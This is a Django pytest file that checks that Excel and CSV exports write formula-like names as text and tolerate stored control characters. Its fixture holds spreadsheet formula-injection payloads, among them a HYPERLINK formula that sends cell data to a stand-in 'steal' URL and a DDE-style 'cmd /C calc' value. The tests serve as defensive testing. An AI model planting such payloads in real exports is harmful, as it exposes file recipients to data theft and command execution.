"""Point 4 of issue 10: exports never execute and never fail on stored data. Names that are formulas
(`=HYPERLINK(…)`, `+…`, `-…`, `@…`, a leading tab or CR) come out of every Excel export as text cells (data type
's' with the quote prefix, no <f> element in the sheet) and out of the dossier's CSVs with a leading quote; a
control character stored before the input policy existed (\\x0b, which XML cannot hold) no longer makes an export
a 500."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Enterprise, RosterEntry, User
from core.audit import record
from core.inputs import FORMULA_START
from documents.dossier import build
from supervision.services import draw_sample
from tests.supervision import helpers

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"点击查看")'
# The background exports (supervision.tasks.EXPORTS) and the one made in the request (the small matrix).
EXPORTS = ["applications", "results", "roster", "audit", "supervision:export_matrix"]


@pytest.fixture
def hostile(personas):
    app = helpers.approved(
        personas.enterprise, agency=personas.agency, admin=personas.agency_admin, bureau=personas.bureau
    )
    # Stored as if before the input policy: update() goes around every form.
    Enterprise.objects.filter(pk=personas.enterprise.pk).update(name=FORMULA_NAME + "\x0b")
    app.grade.__class__.objects.filter(pk=app.grade.pk).update(holder_name="+1+cmd|' /C calc'!A0\x0b")
    RosterEntry.objects.create(
        credit_code=personas.enterprise.credit_code,
        name="-2+3\x0b",
        service_provider_name="@SUM(1+1)",
        service_provider_credit_code="\t=1",
        cancelled_reason="\r=2",
    )
    User.objects.filter(pk=personas.bureau.pk).update(full_name="=1+1\x0b审核员")
    personas.bureau.refresh_from_db()
    record(actor=personas.bureau, action="roster.add", application=app, params={"name": "名单\x0b企业"})
    app.refresh_from_db()
    return app


def check_book(data: bytes) -> int:
    """Every text cell that would start a formula is a text cell; no formula anywhere. Returns how many."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    guarded = 0
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert "\x0b" not in cell.value and "\x00" not in cell.value
                    if cell.value.startswith(FORMULA_START):
                        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
                        guarded += 1
    return guarded


@pytest.mark.parametrize("name", EXPORTS)
def test_every_excel_export_writes_formulas_as_text_and_survives_control_characters(
    hostile, personas, client_for, name
):
    client = client_for(personas.bureau)
    if ":" in name:
        response = client.get(reverse(name))
        assert response.status_code == 200
        data = response.content
    else:
        data = helpers.export_bytes(client, name)
    guarded = check_book(data)
    if name != "supervision:export_matrix":  # the matrix holds only the edition's own scenario names
        assert guarded >= 1


def test_the_sample_export_too(hostile, personas, client_for):
    sample = draw_sample(by=personas.bureau, population_filter={}, size=1, seed=1)
    assert check_book(helpers.export_bytes(client_for(personas.bureau), "sample", {"sample": sample.pk})) >= 1


def test_the_dossier_csvs_quote_formulas(hostile, personas):
    report = build(hostile, by=personas.bureau)
    with report.file.open("rb") as fh, zipfile.ZipFile(io.BytesIO(fh.read())) as z:
        texts = {n: z.read(n).decode("utf-8-sig") for n in z.namelist() if n.endswith(".csv")}
    assert texts
    seen = 0
    for name, text in texts.items():
        for row in csv.reader(io.StringIO(text)):
            for value in row:
                assert not value.startswith(FORMULA_START), (name, value)
                assert "\x0b" not in value and "\x00" not in value
                seen += value.startswith("'=")
    assert seen >= 1  # the actor "=1+1…" of the audit trail is there, as text
